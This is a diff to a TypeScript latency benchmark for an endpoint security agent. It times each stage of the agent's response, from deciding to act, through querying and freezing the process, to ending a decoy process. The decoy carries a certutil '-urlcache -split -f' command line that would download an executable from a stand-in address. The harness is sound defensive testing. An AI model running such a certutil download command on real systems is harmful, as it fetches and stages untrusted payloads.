@@ -28,6 +28,13 @@ const attack = ['-urlcache', '-split', '-f', 'http://203.0.113.7/a.exe', 'c:\\us
 /** Finer than the agent's own, whose outcomes are in whole milliseconds. */
 const clock = { nowMs: () => performance.timeOrigin + performance.now() };
 
+/**
+ * In their order: decided, library asked about the process, it has answered, the process stands still for its
+ * evidence, library told to end it, it has.
+ */
+type Stage = 'decided' | 'asked' | 'looked' | 'stopped' | 'called' | 'ended';
+type CallTimes = { readonly [stage in Exclude<Stage, 'decided'>]?: number };
+
 const library = await openTestLibrary(defaultFfi());
 const control = new ProcessControl(library);
 const etw = new DoubleScript('etw');
@@ -51,10 +58,10 @@ async function measure(name: string, evidenceFolder: string | null): Promise<voi
       failed: (what, error) => fail(`${what}: ${String(error)}`),
     },
   });
-  const calls = new Map<number, { readonly calledMs: number; readonly returnedMs: number }>();
+  const calls = new Map<number, CallTimes>();
   const stage = new ResponseStage({
     ...response.parts,
-    control: observeTerminations(response.parts.control, calls),
+    control: observeCalls(response.parts.control, calls),
     // The victims are this program's children, which the agent would leave alone as its own.
     own: () => ({ pid: 0, ancestorPids: new Set() }),
   });
@@ -75,7 +82,14 @@ async function measure(name: string, evidenceFolder: string | null): Promise<voi
     }
   })();
   etw.say('running', process.pid, 4, 0, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', 'explorer.exe');
-  const delaysMs = { decided: [] as number[], called: [] as number[], ended: [] as number[] };
+  const delaysMs: Record<Stage, number[]> = {
+    decided: [],
+    asked: [],
+    looked: [],
+    stopped: [],
+    called: [],
+    ended: [],
+  };
   for (let index = 0; index < warmUp + victims; index++) {
     const victim = new LookAlike('certutil.exe', attack);
     try {
@@ -88,10 +102,10 @@ async function measure(name: string, evidenceFolder: string | null): Promise<voi
       if (end?.result !== 'terminated') fail(`not ended but ${JSON.stringify(end)}`);
       if (index < warmUp) continue;
       const startMs = ringMs.get(victim.pid)!;
-      const { calledMs, returnedMs } = calls.get(victim.pid)!;
       delaysMs.decided.push(atMs - startMs);
-      delaysMs.called.push(calledMs - startMs);
-      delaysMs.ended.push(returnedMs - startMs);
+      for (const [stage, timeMs] of Object.entries(calls.get(victim.pid)!)) {
+        delaysMs[stage as Stage].push(timeMs - startMs);
+      }
     } finally {
       victim.kill();
       // A pid may come again.
@@ -99,6 +113,8 @@ async function measure(name: string, evidenceFolder: string | null): Promise<voi
       ringMs.clear();
       calls.clear();
     }
+    // The bundle of one is written before the next begins: policies allow five actions a minute, not ten a second.
+    await stage.settle();
     await wait(spacingMs);
   }
   stop.abort();
@@ -109,6 +125,7 @@ async function measure(name: string, evidenceFolder: string | null): Promise<voi
   store.close();
   report(`${name}.processes`, delaysMs.ended.length, '');
   for (const [what, values] of Object.entries(delaysMs)) {
+    if (values.length === 0) continue;
     const sorted = Float64Array.from(values).sort();
     for (const part of [0.5, 0.9, 0.99]) {
       report(`${name}.ring_to_${what}_p${part * 100}`, sorted[Math.floor(sorted.length * part)]!, 'ms');
@@ -117,24 +134,31 @@ async function measure(name: string, evidenceFolder: string | null): Promise<voi
   }
 }
 
-/** Notes when a process's ending is asked of the library, and when TerminateProcess had returned there. */
-function observeTerminations(
-  port: ProcessPort,
-  calls: Map<number, { readonly calledMs: number; readonly returnedMs: number }>,
-): ProcessPort {
+/** Notes when the library was asked about a process and answered, and when TerminateProcess had returned there. */
+function observeCalls(port: ProcessPort, calls: Map<number, CallTimes>): ProcessPort {
   return {
-    query: (target) => port.query(target),
+    async query(target) {
+      const asked = clock.nowMs();
+      const result = await port.query(target);
+      calls.set(target.pid, { asked, looked: clock.nowMs() });
+      return result;
+    },
     suspend: (target) => port.suspend(target),
+    async freeze(target) {
+      const result = await port.freeze(target);
+      calls.set(target.pid, { ...calls.get(target.pid)!, stopped: clock.nowMs() });
+      return result;
+    },
     resume: (target) => port.resume(target),
     terminateTree: (target) => port.terminateTree(target),
     tree: (target) => port.tree(target),
     async terminate(target) {
-      const calledMs = clock.nowMs();
+      const called = clock.nowMs();
       const result = await port.terminate(target);
       // After the system call, the library waits for the process to be gone.
       if (!('actMs' in result) || !('totalMs' in result)) fail('no times');
       const waitedMs = Number(result.totalMs) - Number(result.actMs);
-      calls.set(target.pid, { calledMs, returnedMs: clock.nowMs() - waitedMs });
+      calls.set(target.pid, { ...calls.get(target.pid)!, called, ended: clock.nowMs() - waitedMs });
       return result;
     },
   };
